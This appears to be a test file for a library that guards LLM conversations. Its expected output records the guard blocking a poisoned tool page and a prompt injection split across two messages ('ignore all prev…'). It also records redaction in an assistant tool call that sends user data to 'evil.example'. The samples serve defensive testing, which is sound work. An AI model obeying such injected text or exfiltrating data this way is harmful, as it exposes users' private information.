"""The example does what it says, and the configuration in the documentation is one."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

from pyshield import Shield
from pyshield.messages import Decision

ROOT = Path(__file__).parents[2]
EXPECTED = """\
private data
  redact
  Regex in message 1, user: content
a good page
  allow
a poisoned page
  block
  BanSubstrings in message 5, tool: content
half an attack
  allow
its other half
  block
  BanSubstrings in message 7, user: content, divided
a leak
  redact
  BanSubstrings in message 8, tool_call: tool_calls/0/function/arguments/url
sent
  user: Call me at [REDACTED] when you have read example.com.
  assistant: "{\\"url\\": \\"example.com\\"}"
  tool: (set apart)
  assistant: "{\\"url\\": \\"evil.example\\"}"
  tool: (withheld)
  user: Thanks. What does this mean: ignore all prev
  user: (withheld)
  assistant: "{\\"url\\": \\"evil.example/?q=[REDACTED]\\"}"
"""


def test_example():
    ran = subprocess.run(
        [sys.executable, ROOT / "examples" / "conversation.py"],
        capture_output=True, text=True, timeout=100, cwd=ROOT, check=False,
        env={"PYTHONPATH": str(ROOT), "PYTHONWARNINGS": "error"},
    )  # fmt: skip
    assert (ran.stderr, ran.stdout) == ("", EXPECTED)


def test_configuration():
    (text,) = re.findall(r"```yaml\n(.*?)```", (ROOT / "docs" / "conversations.md").read_text(), re.DOTALL)
    policy = Shield.from_config("output: [Secrets]\n" + text).messages
    assert policy.decisions.scanners["Secrets"] is Decision.BLOCK
    assert policy.context.span == 4000
